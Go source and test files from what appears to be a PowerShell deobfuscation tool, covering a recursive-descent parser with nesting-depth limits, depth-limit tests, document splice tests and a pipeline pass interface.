	var de *DepthError
	if !errors.As(err, &de) {
		t.Fatalf("error %v (%T) is not a *DepthError", err, err)
	}
}

// TestExpandableStringDepthInherited ensures the sub-parse performed for
// "$(...)" inside expandable strings inherits the enclosing parser's
// depth instead of resetting the counter.
func TestExpandableStringDepthInherited(t *testing.T) {
	const depth = 2_000
	src := `"` + strings.Repeat("$(", 1) + strings.Repeat("(", depth) + "1" +
		strings.Repeat(")", depth) + ")" + `"`
	if _, err := Parse(src); err != nil {
		t.Fatalf("Parse nested expandable: %v", err)
	}
}

// TestParseUnaryDepth covers the unary-operator recursion path.
func TestParseUnaryDepth(t *testing.T) {
	src := strings.Repeat("!", 120_000) + "1"
	_, err := Parse(src)
	if err == nil {
		t.Fatal("Parse accepted unbounded unary nesting")
	}
	if !errors.Is(err, limits.ErrParseDepth) {
		t.Fatalf("error %v does not unwrap to limits.ErrParseDepth", err)
	}
}
