// Package psparser implements a recursive-descent parser producing
// psast trees from PowerShell source, covering the language subset
// exercised by obfuscated scripts: pipelines, commands, the full
// operator set with PowerShell precedence, control flow, functions,
// script blocks, hashtables, here-strings and expandable strings.
package psparser

import (
	"fmt"
	"strings"
	"sync/atomic"

	"github.com/invoke-deobfuscation/invokedeob/internal/limits"
	"github.com/invoke-deobfuscation/invokedeob/internal/psast"
	"github.com/invoke-deobfuscation/invokedeob/internal/pstoken"
)

// parseCalls counts top-level Parse invocations since process start.
// It is cheap instrumentation (one atomic add per call) that lets the
// parse-amortization regression tests and the pipeline trace assert how
// many full parses a deobfuscation run actually performs.
var parseCalls atomic.Int64

// ParseCalls returns the number of Parse invocations performed by this
// process so far. Deltas around a region of work measure its parse
// cost.
func ParseCalls() int64 { return parseCalls.Load() }

// SyntaxError reports a parse failure at a source offset.
type SyntaxError struct {
	Pos int
	Msg string
}

func (e *SyntaxError) Error() string {
	return fmt.Sprintf("syntax error at offset %d: %s", e.Pos, e.Msg)
}

// maxParseDepth bounds recursive-descent nesting. Go stack exhaustion is
// fatal and unrecoverable, so hostile inputs with pathological nesting
// (tens of thousands of parens) must be rejected with a typed error
// before the runtime kills the process. Each syntactic nesting level
// costs two to three counter increments, so this admits well over 10k
// levels of real nesting while staying far below the runtime stack cap.
const maxParseDepth = 40_000

// DepthError reports that input nesting exceeded maxParseDepth. It
// unwraps to limits.ErrParseDepth so callers can classify it.
type DepthError struct {
	Pos int
}

func (e *DepthError) Error() string {
	return fmt.Sprintf("parse depth limit exceeded at offset %d", e.Pos)
}

func (e *DepthError) Unwrap() error { return limits.ErrParseDepth }

type parser struct {
	src    string
	offset int // shift applied to extents (for nested sub-parses)
	toks   []pstoken.Token
	pos    int
	depth  int // recursion depth, shared with nested sub-parses
}

// enter charges one level of recursion depth; call leave on return.
func (p *parser) enter() error {
	p.depth++
	if p.depth > maxParseDepth {
		pos := p.offset
		if p.pos < len(p.toks) {
			pos += p.toks[p.pos].Start
		} else {
			pos += len(p.src)
		}
		return &DepthError{Pos: pos}
	}
	return nil
}

func (p *parser) leave() { p.depth-- }

// Parse parses a complete PowerShell script. Internal panics are
// converted to a *limits.PanicError rather than crashing the caller.
func Parse(src string) (sb *psast.ScriptBlock, err error) {
	defer limits.Recover("psparser.Parse", &err)
	parseCalls.Add(1)
	return parseAt(src, 0, 0)
}

// parseAt parses src whose first byte sits at absolute offset off in the
// enclosing script, so extents remain absolute. depth seeds the recursion
// counter so sub-parses (expandable-string subexpressions) inherit the
// enclosing parser's depth instead of resetting it.
func parseAt(src string, off, depth int) (*psast.ScriptBlock, error) {
	toks, err := pstoken.Tokenize(src)
	if err != nil {
		return nil, err
	}
	kept := make([]pstoken.Token, 0, len(toks))
	for _, t := range toks {
		if t.Type == pstoken.Comment || t.Type == pstoken.LineContinuation {
			continue
		}
		kept = append(kept, t)
	}
	p := &parser{src: src, offset: off, toks: kept, depth: depth}
	sb, err := p.parseScriptBody(0, len(src))
	if err != nil {
		return nil, err
	}
	if !p.atEnd() {
		return nil, p.errorf("unexpected token %q", p.cur().Text)
	}
	return sb, nil
}

func (p *parser) errorf(format string, args ...any) error {
	pos := p.offset
	if p.pos < len(p.toks) {
		pos += p.toks[p.pos].Start
	} else {
		pos += len(p.src)
	}
	return &SyntaxError{Pos: pos, Msg: fmt.Sprintf(format, args...)}
}

func (p *parser) atEnd() bool { return p.pos >= len(p.toks) }

func (p *parser) cur() pstoken.Token {
	if p.atEnd() {
		return pstoken.Token{Type: pstoken.Unknown, Start: len(p.src)}
	}
	return p.toks[p.pos]
}

func (p *parser) peek(n int) pstoken.Token {
	if p.pos+n >= len(p.toks) {
		return pstoken.Token{Type: pstoken.Unknown, Start: len(p.src)}
	}
	return p.toks[p.pos+n]
}

func (p *parser) advance() pstoken.Token {
	t := p.cur()
	if !p.atEnd() {
		p.pos++
	}
	return t
}

// ext converts a token-relative byte range to an absolute extent.
func (p *parser) ext(start, end int) psast.Extent {
	return psast.Extent{Start: start + p.offset, End: end + p.offset}
}

func (p *parser) tokExt(t pstoken.Token) psast.Extent {
	return p.ext(t.Start, t.End())
}

// skipSeparators consumes newlines and semicolons.
func (p *parser) skipSeparators() {
	for !p.atEnd() {
		switch p.cur().Type {
		case pstoken.NewLine, pstoken.StatementSeparator:
			p.pos++
		default:
			return
		}
	}
}

// skipNewlines consumes newline tokens only.
func (p *parser) skipNewlines() {
	for !p.atEnd() && p.cur().Type == pstoken.NewLine {
		p.pos++
	}
}

func (p *parser) isOperator(text string) bool {
	t := p.cur()
	return t.Type == pstoken.Operator && strings.EqualFold(t.Content, text)
}

func (p *parser) isGroupStart(text string) bool {
	t := p.cur()
	return t.Type == pstoken.GroupStart && t.Content == text
}

func (p *parser) isGroupEnd(text string) bool {
	t := p.cur()
	return t.Type == pstoken.GroupEnd && t.Content == text
}

func (p *parser) isKeyword(word string) bool {
	t := p.cur()
	return t.Type == pstoken.Keyword && strings.EqualFold(t.Content, word)
}

func (p *parser) expectGroupEnd(text string) (pstoken.Token, error) {
	p.skipNewlines()
	if !p.isGroupEnd(text) {
		return pstoken.Token{}, p.errorf("expected %q, found %q", text, p.cur().Text)
	}
	return p.advance(), nil
}

// parseScriptBody parses a statement list spanning [start,end) into a
// ScriptBlock with an implicit named block.
func (p *parser) parseScriptBody(start, end int) (*psast.ScriptBlock, error) {
	sb := &psast.ScriptBlock{Ext: p.ext(start, end)}
	block := &psast.NamedBlock{Ext: p.ext(start, end)}
	p.skipSeparators()
	// Optional leading param(...) block.
	if p.isKeyword("param") {
		pb, err := p.parseParamBlock()
		if err != nil {
			return nil, err
		}
		sb.Params = pb
		p.skipSeparators()
	}
	stmts, err := p.parseStatementList()
	if err != nil {
		return nil, err
	}
	block.Statements = stmts
	sb.Body = block
	return sb, nil
}

// parseStatementList parses statements until a group end or EOF.
func (p *parser) parseStatementList() ([]psast.Node, error) {
	var stmts []psast.Node
	for {
		p.skipSeparators()
		if p.atEnd() || p.cur().Type == pstoken.GroupEnd {
			return stmts, nil
		}
		st, err := p.parseStatement()
		if err != nil {
			return nil, err
		}
		if st != nil {
			stmts = append(stmts, st)
		}
	}
}

// parseStatement parses one statement.
func (p *parser) parseStatement() (psast.Node, error) {
	if err := p.enter(); err != nil {
		return nil, err
	}
	defer p.leave()
	t := p.cur()
	if t.Type == pstoken.LoopLabel {
		p.advance() // labels are recorded on the loop below
	}
	t = p.cur()
	if t.Type == pstoken.Keyword {
		switch strings.ToLower(t.Content) {
		case "if":
			return p.parseIf()
		case "while":
			return p.parseWhile()
		case "do":
			return p.parseDo()
		case "for":
			return p.parseFor()
		case "foreach":
			return p.parseForEach()
		case "switch":
			return p.parseSwitch()
		case "function", "filter", "workflow":
			return p.parseFunction()
		case "try":
			return p.parseTry()
		case "trap":
			return p.parseTrap()
		case "param":
			pb, err := p.parseParamBlock()
			if err != nil {
				return nil, err
			}
			return pb, nil
		case "begin", "process", "end":
			p.advance()
			p.skipNewlines()
			return p.parseBlock()
		case "return", "throw", "exit", "break", "continue":
			return p.parseFlow()
		case "class", "data", "using", "define", "var", "dynamicparam", "from", "workflow2":
			return nil, p.errorf("unsupported keyword %q", t.Content)
		default:
			return nil, p.errorf("unexpected keyword %q", t.Content)
		}
	}
	return p.parsePipelineStatement()
}

func (p *parser) parseParamBlock() (*psast.ParamBlock, error) {
	start := p.cur().Start
	p.advance() // param
	p.skipNewlines()
	if !p.isGroupStart("(") {
		return nil, p.errorf("expected ( after param")
	}
	p.advance()
	params, err := p.parseParameterList()
	if err != nil {
		return nil, err
	}
	end, err := p.expectGroupEnd(")")
	if err != nil {
		return nil, err
	}
	return &psast.ParamBlock{Ext: p.ext(start, end.End()), Parameters: params}, nil
}

// parseParameterList parses comma-separated $name [= default] entries,
// skipping attribute-like type literals.
func (p *parser) parseParameterList() ([]*psast.Parameter, error) {
	var params []*psast.Parameter
	for {
		p.skipSeparators()
		if p.cur().Type == pstoken.GroupEnd {
			return params, nil
		}
		// Skip [Parameter(...)] and [type] annotations.
		for p.cur().Type == pstoken.TypeLiteral {
			p.advance()
			p.skipNewlines()
		}
		t := p.cur()
		if t.Type != pstoken.Variable {
			return nil, p.errorf("expected parameter variable, found %q", t.Text)
		}
		p.advance()
		param := &psast.Parameter{Ext: p.tokExt(t), Name: t.Content}
		p.skipNewlines()
		if p.isOperator("=") {
			p.advance()
			p.skipNewlines()
			def, err := p.parseExpression()
			if err != nil {
				return nil, err
			}
			param.Default = def
			param.Ext.End = def.Extent().End
		}
		params = append(params, param)
		p.skipNewlines()
		if p.isOperator(",") {
			p.advance()
			continue
		}
		return params, nil
	}
}

// parseBlock parses a brace-delimited statement block.
func (p *parser) parseBlock() (*psast.StatementBlock, error) {
	p.skipNewlines()
	if !p.isGroupStart("{") {
		return nil, p.errorf("expected {, found %q", p.cur().Text)
	}
	start := p.cur().Start
	p.advance()
	stmts, err := p.parseStatementList()
	if err != nil {
		return nil, err
	}
	end, err := p.expectGroupEnd("}")
	if err != nil {
		return nil, err
	}
	return &psast.StatementBlock{Ext: p.ext(start, end.End()), Statements: stmts}, nil
}

// parseParenPipeline parses ( pipeline-or-assignment ).
func (p *parser) parseParenPipeline() (psast.Node, error) {
	p.skipNewlines()
	if !p.isGroupStart("(") {
		return nil, p.errorf("expected (, found %q", p.cur().Text)
	}
	p.advance()
	p.skipSeparators()
	inner, err := p.parsePipelineStatement()
	if err != nil {
		return nil, err
	}
	if _, err := p.expectGroupEnd(")"); err != nil {
		return nil, err
	}
	return inner, nil
}

func (p *parser) parseIf() (psast.Node, error) {
	start := p.cur().Start
	node := &psast.If{}
	for {
		p.advance() // if / elseif
		cond, err := p.parseParenPipeline()
		if err != nil {
			return nil, err
		}
		body, err := p.parseBlock()
		if err != nil {
			return nil, err
		}
		node.Clauses = append(node.Clauses, psast.IfClause{Cond: cond, Body: body})
		node.Ext = p.ext(start, body.Ext.End-p.offset)
		// Peek past newlines for else/elseif without consuming the
		// separator if no clause follows.
		save := p.pos
		p.skipNewlines()
		if p.isKeyword("elseif") {
			continue
		}
		if p.isKeyword("else") {
			p.advance()
			elseBody, err := p.parseBlock()
			if err != nil {
				return nil, err
			}
			node.Else = elseBody
			node.Ext.End = elseBody.Ext.End
			return node, nil
		}
		p.pos = save
		return node, nil
	}
}

func (p *parser) parseWhile() (psast.Node, error) {
	start := p.cur().Start
	p.advance()
	cond, err := p.parseParenPipeline()
	if err != nil {
		return nil, err
	}
	body, err := p.parseBlock()
	if err != nil {
		return nil, err
	}
	return &psast.While{Ext: p.ext(start, body.Ext.End-p.offset), Cond: cond, Body: body}, nil
}

func (p *parser) parseDo() (psast.Node, error) {
	start := p.cur().Start
	p.advance()
	body, err := p.parseBlock()
	if err != nil {
		return nil, err
	}
	p.skipNewlines()
	until := false
	switch {
	case p.isKeyword("while"):
	case p.isKeyword("until"):
		until = true
	default:
		return nil, p.errorf("expected while or until after do block")
	}
	p.advance()
	cond, err := p.parseParenPipeline()
	if err != nil {
		return nil, err
	}
	end := cond.Extent().End
	if p.pos > 0 {
		end = p.toks[p.pos-1].End() + p.offset
	}
	return &psast.DoLoop{Ext: psast.Extent{Start: start + p.offset, End: end}, Body: body, Cond: cond, Until: until}, nil
}

func (p *parser) parseFor() (psast.Node, error) {
	start := p.cur().Start
	p.advance()
	p.skipNewlines()
	if !p.isGroupStart("(") {
		return nil, p.errorf("expected ( after for")
	}
	p.advance()
	node := &psast.For{}
	part := func() (psast.Node, error) {
		p.skipNewlines()
		if p.cur().Type == pstoken.StatementSeparator || p.isGroupEnd(")") {
			return nil, nil
		}
		return p.parsePipelineStatement()
	}
	var err error
	if node.Init, err = part(); err != nil {
		return nil, err
	}
	if p.cur().Type == pstoken.StatementSeparator {
		p.advance()
	}
	if node.Cond, err = part(); err != nil {
		return nil, err
	}
	if p.cur().Type == pstoken.StatementSeparator {
		p.advance()
	}
	if node.Iter, err = part(); err != nil {
		return nil, err
	}
	if _, err := p.expectGroupEnd(")"); err != nil {
		return nil, err
	}
	body, err := p.parseBlock()
	if err != nil {
		return nil, err
	}
	node.Body = body
	node.Ext = p.ext(start, body.Ext.End-p.offset)
	return node, nil
}

func (p *parser) parseForEach() (psast.Node, error) {
	start := p.cur().Start
	p.advance()
	p.skipNewlines()
	if !p.isGroupStart("(") {
		return nil, p.errorf("expected ( after foreach")
	}
	p.advance()
	p.skipNewlines()
	vt := p.cur()
	if vt.Type != pstoken.Variable {
		return nil, p.errorf("expected loop variable, found %q", vt.Text)
	}
	p.advance()
	p.skipNewlines()
	if !p.isKeyword("in") {
		return nil, p.errorf("expected in, found %q", p.cur().Text)
	}
	p.advance()
	coll, err := p.parseExpression()
	if err != nil {
		return nil, err
	}
	if _, err := p.expectGroupEnd(")"); err != nil {
		return nil, err
	}
	body, err := p.parseBlock()
	if err != nil {
		return nil, err
	}
	return &psast.ForEach{
		Ext:        p.ext(start, body.Ext.End-p.offset),
		Variable:   &psast.VariableExpression{Ext: p.tokExt(vt), Name: vt.Content},
		Collection: coll,
		Body:       body,
	}, nil
}

func (p *parser) parseSwitch() (psast.Node, error) {
	start := p.cur().Start
	p.advance()
	p.skipNewlines()
	// Skip flags like -regex, -wildcard.
	for p.cur().Type == pstoken.CommandParameter {
		p.advance()
		p.skipNewlines()
	}
	node := &psast.Switch{}
	if p.isGroupStart("(") {
		cond, err := p.parseParenPipeline()
		if err != nil {
			return nil, err
		}
		node.Cond = cond
	}
	p.skipNewlines()
	if !p.isGroupStart("{") {
		return nil, p.errorf("expected { in switch")
	}
	p.advance()
	for {
		p.skipSeparators()
		if p.isGroupEnd("}") {
			break
		}
		var pattern psast.Node
		isDefault := false
		t := p.cur()
		if (t.Type == pstoken.Command || t.Type == pstoken.CommandArgument || t.Type == pstoken.Member) &&
			strings.EqualFold(t.Content, "default") {
			p.advance()
			isDefault = true
		} else {
			expr, err := p.parseExpression()
			if err != nil {
				return nil, err
			}
			pattern = expr
		}
		body, err := p.parseBlock()
		if err != nil {
			return nil, err
		}
		if isDefault {
			node.Default = body
		} else {
			node.Cases = append(node.Cases, psast.SwitchCase{Pattern: pattern, Body: body})
		}
	}
	end, err := p.expectGroupEnd("}")
	if err != nil {
		return nil, err
	}
	node.Ext = p.ext(start, end.End())
	return node, nil
}

func (p *parser) parseFunction() (psast.Node, error) {
	start := p.cur().Start
	isFilter := strings.EqualFold(p.cur().Content, "filter")
	p.advance()
	p.skipNewlines()
	nameTok := p.cur()
	if nameTok.Type != pstoken.CommandArgument && nameTok.Type != pstoken.Command {
		return nil, p.errorf("expected function name, found %q", nameTok.Text)
	}
	p.advance()
	node := &psast.FunctionDefinition{Name: nameTok.Content, IsFilter: isFilter}
	p.skipNewlines()
	if p.isGroupStart("(") {
		p.advance()
		params, err := p.parseParameterList()
		if err != nil {
			return nil, err
		}
		if _, err := p.expectGroupEnd(")"); err != nil {
			return nil, err
		}
		node.Params = params
	}
	p.skipNewlines()
	if !p.isGroupStart("{") {
		return nil, p.errorf("expected { in function definition")
	}
	bodyStart := p.cur().Start
	p.advance()
	inner, err := p.parseScriptBody(bodyStart+1, 0)
	if err != nil {
		return nil, err
	}
	end, err := p.expectGroupEnd("}")
	if err != nil {
		return nil, err
	}
	inner.Ext = p.ext(bodyStart, end.End())
	if inner.Body != nil {
		inner.Body.Ext = p.ext(bodyStart+1, end.Start)
	}
	node.Body = inner
	node.Ext = p.ext(start, end.End())
	return node, nil
}

func (p *parser) parseTry() (psast.Node, error) {
	start := p.cur().Start
	p.advance()
	body, err := p.parseBlock()
	if err != nil {
		return nil, err
	}
	node := &psast.Try{Body: body}
	endPos := body.Ext.End
	for {
		save := p.pos
		p.skipNewlines()
		if p.isKeyword("catch") {
			cstart := p.cur().Start
			p.advance()
			p.skipNewlines()
			var types []string
			for p.cur().Type == pstoken.TypeLiteral {
				types = append(types, p.cur().Content)
				p.advance()
				p.skipNewlines()
				if p.isOperator(",") {
					p.advance()
					p.skipNewlines()
				}
			}
			cbody, err := p.parseBlock()
			if err != nil {
				return nil, err
			}
			node.Catches = append(node.Catches, &psast.CatchClause{
				Ext:   p.ext(cstart, cbody.Ext.End-p.offset),
				Types: types,
				Body:  cbody,
			})
			endPos = cbody.Ext.End
			continue
		}
		if p.isKeyword("finally") {
			p.advance()
			fbody, err := p.parseBlock()
			if err != nil {
				return nil, err
			}
			node.Finally = fbody
			endPos = fbody.Ext.End
			break
		}
		p.pos = save
		break
	}
	if len(node.Catches) == 0 && node.Finally == nil {
		return nil, p.errorf("try without catch or finally")
	}
	node.Ext = psast.Extent{Start: start + p.offset, End: endPos}
	return node, nil
}

func (p *parser) parseTrap() (psast.Node, error) {
	start := p.cur().Start
	p.advance()
	p.skipNewlines()
	if p.cur().Type == pstoken.TypeLiteral {
		p.advance()
		p.skipNewlines()
	}
	body, err := p.parseBlock()
	if err != nil {
		return nil, err
	}
	return &psast.FlowStatement{
		Ext:     p.ext(start, body.Ext.End-p.offset),
		Keyword: "trap",
		Value:   &psast.ScriptBlockExpression{Ext: body.Ext, Body: &psast.ScriptBlock{Ext: body.Ext, Body: &psast.NamedBlock{Ext: body.Ext, Statements: body.Statements}}},
	}, nil
}

func (p *parser) parseFlow() (psast.Node, error) {
	t := p.advance()
	keyword := strings.ToLower(t.Content)
	node := &psast.FlowStatement{Ext: p.tokExt(t), Keyword: keyword}
	switch keyword {
	case "break", "continue":
		// Optional loop label.
		if c := p.cur(); c.Type == pstoken.CommandArgument && c.Line == t.Line {
			p.advance()
			node.Ext.End = c.End() + p.offset
		}
		return node, nil
	}
	switch p.cur().Type {
	case pstoken.NewLine, pstoken.StatementSeparator, pstoken.GroupEnd, pstoken.Unknown:
		if p.atEnd() || p.cur().Type != pstoken.Unknown {
			return node, nil
		}
	}
	value, err := p.parsePipelineStatement()
	if err != nil {
		return nil, err
	}
	node.Value = value
	node.Ext.End = value.Extent().End
	return node, nil
}

var assignmentOps = map[string]bool{"=": true, "+=": true, "-=": true, "*=": true, "/=": true, "%=": true}

// parsePipelineStatement parses a pipeline, promoting it to an
// assignment when an assignment operator follows the first expression.
func (p *parser) parsePipelineStatement() (psast.Node, error) {
	pipe, err := p.parsePipeline()
	if err != nil {
		return nil, err
	}
	t := p.cur()
	if t.Type == pstoken.Operator && assignmentOps[t.Content] {
		left := assignmentTarget(pipe)
		if left == nil {
			return nil, p.errorf("invalid assignment target")
		}
		p.advance()
		p.skipNewlines()
		var right psast.Node
		var err error
		if p.cur().Type == pstoken.Keyword {
			// PowerShell allows statements as assignment values:
			// $x = if (...) { } else { }, $x = switch (...) { ... }.
			right, err = p.parseStatement()
		} else {
			right, err = p.parsePipelineStatement()
		}
		if err != nil {
			return nil, err
		}
		return &psast.Assignment{
			Ext:      psast.Extent{Start: left.Extent().Start, End: right.Extent().End},
			Left:     left,
			Operator: t.Content,
			Right:    right,
		}, nil
	}
	return pipe, nil
}

// assignmentTarget extracts an assignable expression from a parsed
// pipeline, or nil.
func assignmentTarget(n psast.Node) psast.Node {
	pipe, ok := n.(*psast.Pipeline)
	if !ok || len(pipe.Elements) != 1 {
		return nil
	}
	ce, ok := pipe.Elements[0].(*psast.CommandExpression)
	if !ok {
		return nil
	}
	switch ce.Expression.(type) {
	case *psast.VariableExpression, *psast.IndexExpression,
		*psast.MemberExpression, *psast.ArrayLiteral, *psast.ConvertExpression:
		return ce.Expression
	}
	return nil
}

// parsePipeline parses element (| element)*.
func (p *parser) parsePipeline() (psast.Node, error) {
	start := p.cur().Start
	elem, err := p.parsePipelineElement()
	if err != nil {
		return nil, err
	}
	pipe := &psast.Pipeline{Elements: []psast.Node{elem}}
	end := elem.Extent().End
	for p.isOperator("|") || p.isOperator("||") {
		p.advance()
		p.skipNewlines()
		next, err := p.parsePipelineElement()
		if err != nil {
			return nil, err
		}
		pipe.Elements = append(pipe.Elements, next)
		end = next.Extent().End
	}
	if p.isOperator("&") {
		p.advance()
		pipe.Background = true
		end = p.toks[p.pos-1].End() + p.offset
	}
	pipe.Ext = psast.Extent{Start: start + p.offset, End: end}
	return pipe, nil
}

// parsePipelineElement parses a command or a command expression.
func (p *parser) parsePipelineElement() (psast.Node, error) {
	t := p.cur()
	switch {
	case t.Type == pstoken.Command:
		return p.parseCommand("")
	case t.Type == pstoken.Operator && (t.Content == "&" || t.Content == "."):
		op := t.Content
		p.advance()
		return p.parseCommand(op)
	case t.Type == pstoken.CommandParameter:
		// A stray parameter such as -join used oddly; treat the dash word
		// as a bare command (PowerShell errors here, but tolerate).
		return p.parseCommand("")
	default:
		expr, err := p.parseExpression()
		if err != nil {
			return nil, err
		}
		// An expression can still begin a command when followed by
		// arguments, e.g. a quoted command name "cmd" arg — PowerShell
		// treats leading strings as expressions, so no promotion here.
		return &psast.CommandExpression{Ext: expr.Extent(), Expression: expr}, nil
	}
}

// parseCommand parses a command invocation. invOp is "", "&" or ".".
func (p *parser) parseCommand(invOp string) (psast.Node, error) {
	start := p.cur().Start
	if invOp != "" && p.pos > 0 {
		start = p.toks[p.pos-1].Start
	}
	cmd := &psast.Command{InvocationOperator: invOp}
	// Command name.
	t := p.cur()
	switch t.Type {
	case pstoken.Command, pstoken.CommandArgument, pstoken.CommandParameter:
		p.advance()
		cmd.Name = &psast.StringConstant{Ext: p.tokExt(t), Value: t.Content, Bare: true}
	case pstoken.String:
		p.advance()
		cmd.Name = p.stringNode(t)
	case pstoken.Variable:
		p.advance()
		cmd.Name = &psast.VariableExpression{Ext: p.tokExt(t), Name: t.Content}
	case pstoken.GroupStart:
		if t.Content != "(" && t.Content != "$(" && t.Content != "{" {
			return nil, p.errorf("unexpected %q as command name", t.Text)
		}
		name, err := p.parsePrimary()
		if err != nil {
			return nil, err
		}
		cmd.Name = name
	default:
		return nil, p.errorf("expected command name, found %q", t.Text)
	}
	end := cmd.Name.Extent().End
	// Arguments.
	for {
		t := p.cur()
		switch t.Type {
		case pstoken.NewLine, pstoken.StatementSeparator, pstoken.GroupEnd, pstoken.Unknown:
			cmd.Ext = psast.Extent{Start: start + p.offset, End: end}
			return cmd, nil
		case pstoken.Operator:
			switch t.Content {
			case "|", "||", "&", "&&", "=":
				cmd.Ext = psast.Extent{Start: start + p.offset, End: end}
				return cmd, nil
			case ">", ">>":
				p.advance()
				p.skipNewlines()
				target := p.cur()
				p.advance()
				cmd.Redirections = append(cmd.Redirections, t.Content+" "+target.Text)
				end = target.End() + p.offset
				continue
			case ",":
				// Comma joining the previous argument into an array.
				p.advance()
				p.skipNewlines()
				next, err := p.parseCommandArgument()
				if err != nil {
					return nil, err
				}
				if len(cmd.Args) == 0 {
					return nil, p.errorf("unexpected , in command")
				}
				last := cmd.Args[len(cmd.Args)-1]
				if arr, ok := last.(*psast.ArrayLiteral); ok {
					arr.Elements = append(arr.Elements, next)
					arr.Ext.End = next.Extent().End
				} else {
					cmd.Args[len(cmd.Args)-1] = &psast.ArrayLiteral{
						Ext:      psast.Extent{Start: last.Extent().Start, End: next.Extent().End},
						Elements: []psast.Node{last, next},
					}
				}
				end = next.Extent().End
				continue
			}
			// Other operators (e.g. 2> redirects tokenized oddly): treat
			// as bare-word argument.
			p.advance()
			cmd.Args = append(cmd.Args, &psast.StringConstant{Ext: p.tokExt(t), Value: t.Content, Bare: true})
			end = t.End() + p.offset
		case pstoken.CommandParameter:
			p.advance()
			cp := &psast.CommandParameter{Ext: p.tokExt(t), Name: t.Content}
			if strings.HasSuffix(t.Text, ":") {
				arg, err := p.parseCommandArgument()
				if err != nil {
					return nil, err
				}
				cp.Argument = arg
				cp.Ext.End = arg.Extent().End
			}
			cmd.Args = append(cmd.Args, cp)
			end = cp.Ext.End
		default:
			arg, err := p.parseCommandArgument()
			if err != nil {
				return nil, err
			}
			cmd.Args = append(cmd.Args, arg)
			end = arg.Extent().End
		}
	}
}

// parseCommandArgument parses a single command argument with postfix
// member/index access.
func (p *parser) parseCommandArgument() (psast.Node, error) {
	t := p.cur()
	var base psast.Node
	switch t.Type {
	case pstoken.CommandArgument, pstoken.Command, pstoken.Member, pstoken.Keyword:
		p.advance()
		base = &psast.StringConstant{Ext: p.tokExt(t), Value: t.Content, Bare: true}
	case pstoken.Number:
		p.advance()
		v, perr := ParseNumber(t.Content)
		if perr != nil {
			base = &psast.StringConstant{Ext: p.tokExt(t), Value: t.Content, Bare: true}
		} else {
			base = &psast.ConstantExpression{Ext: p.tokExt(t), Value: v, Text: t.Content}
		}
	case pstoken.String:
		p.advance()
		base = p.stringNode(t)
	case pstoken.Variable:
		p.advance()
		base = &psast.VariableExpression{Ext: p.tokExt(t), Name: t.Content}
		return p.parsePostfixFrom(base)
	case pstoken.GroupStart:
		prim, err := p.parsePrimary()
		if err != nil {
			return nil, err
		}
		return p.parsePostfixFrom(prim)
	default:
		return nil, p.errorf("unexpected token %q in command arguments", t.Text)
	}
	return base, nil
}

func (p *parser) stringNode(t pstoken.Token) psast.Node {
	expandable := (t.Kind == pstoken.DoubleQuoted || t.Kind == pstoken.DoubleHereString) &&
		strings.ContainsRune(t.Text, '$')
	if !expandable {
		return &psast.StringConstant{
			Ext:          p.tokExt(t),
			Value:        t.Content,
			SingleQuoted: t.Kind == pstoken.SingleQuoted,
			HereString:   t.Kind == pstoken.SingleHereString || t.Kind == pstoken.DoubleHereString,
		}
	}
	return p.parseExpandableString(t)
}
