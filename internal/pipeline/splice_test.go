package pipeline

import (
	"strings"
	"testing"
)

// fakeSplicer wraps fakeLang with a Splicer capability that applies
// edits textually, rejects batches on demand, and records what it was
// handed — enough to pin Document.Splice's dispatch contract without a
// real frontend.
type fakeSplicer struct {
	fakeLang
	reject  bool
	calls   int
	gotText string
	gotLen  int
}

func (l *fakeSplicer) Splice(view *View, text string, edits []Edit) (string, bool) {
	l.calls++
	l.gotText = text
	l.gotLen = len(edits)
	if l.reject {
		return "", false
	}
	var b strings.Builder
	cursor := 0
	for _, e := range edits {
		b.WriteString(text[cursor:e.Start])
		b.WriteString(e.New)
		cursor = e.End
	}
	b.WriteString(text[cursor:])
	return b.String(), true
}

func TestDocumentSpliceApplies(t *testing.T) {
	l := &fakeSplicer{fakeLang: fakeLang{name: "fake"}}
	doc := NewDocument("aaa bbb ccc", NewCache(0, 0).View(l))
	ok := doc.Splice([]Edit{{Start: 4, End: 7, New: "XY"}})
	if !ok {
		t.Fatal("Splice reported false for an accepted batch")
	}
	if got := doc.Text(); got != "aaa XY ccc" {
		t.Fatalf("Text() = %q after splice, want %q", got, "aaa XY ccc")
	}
	if l.calls != 1 || l.gotText != "aaa bbb ccc" || l.gotLen != 1 {
		t.Fatalf("splicer saw calls=%d text=%q edits=%d", l.calls, l.gotText, l.gotLen)
	}
}

func TestDocumentSpliceRejectionLeavesDocument(t *testing.T) {
	l := &fakeSplicer{fakeLang: fakeLang{name: "fake"}, reject: true}
	doc := NewDocument("aaa bbb", NewCache(0, 0).View(l))
	if doc.Splice([]Edit{{Start: 0, End: 3, New: "z"}}) {
		t.Fatal("Splice reported true for a rejected batch")
	}
	if got := doc.Text(); got != "aaa bbb" {
		t.Fatalf("rejected splice mutated the text: %q", got)
	}
}

func TestDocumentSpliceWithoutCapability(t *testing.T) {
	// A Lang without the Splicer capability: Splice must decline, not
	// panic, so callers can fall back to the full-reparse path.
	l := newFakeLang()
	doc := NewDocument("aaa", NewCache(0, 0).View(l))
	if doc.Splice([]Edit{{Start: 0, End: 1, New: "b"}}) {
		t.Fatal("Splice reported true for a Lang with no Splicer")
	}
	if doc.Text() != "aaa" {
		t.Fatalf("text mutated: %q", doc.Text())
	}
	// Empty batches decline before dispatch.
	ls := &fakeSplicer{fakeLang: fakeLang{name: "fake"}}
	doc2 := NewDocument("aaa", NewCache(0, 0).View(ls))
	if doc2.Splice(nil) {
		t.Fatal("Splice reported true for an empty batch")
	}
	if ls.calls != 0 {
		t.Fatalf("empty batch reached the splicer (%d calls)", ls.calls)
	}
}
