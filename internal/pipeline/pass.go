package pipeline

import (
	"strings"
	"time"
)

// Pass is one composable phase of the deobfuscation pipeline. A Pass
// reads and rewrites the Document in its PassContext; it must leave the
// Document parseable (revert on regression) and report only hard
// failures — "nothing to do" is a successful no-op.
type Pass interface {
	// Name identifies the pass in traces ("token", "ast", "rename",
	// "reformat").
	Name() string
	// Run executes the pass over pc.Doc.
	Run(pc *PassContext) error
}

// PassContext carries the mutable per-run state a pass operates on.
type PassContext struct {
	// Doc is the script being rewritten.
	Doc *Document
	// Reverts counts candidate rewrites that failed validation and were
	// rolled back (the paper's validOrRevert check, §IV-A), across all
	// passes of the run.
	Reverts int
	// Eval is the run's window onto the shared evaluation cache (nil
	// when evaluation memoization is disabled; EvalView methods accept
	// a nil receiver).
	Eval *EvalView

	// nestedDepth / nestedTime track wall-clock time spent inside nested
	// payload layers re-entered from within a pass (see BeginNested), so
	// Runner.Run can split a pass's cumulative duration into self time
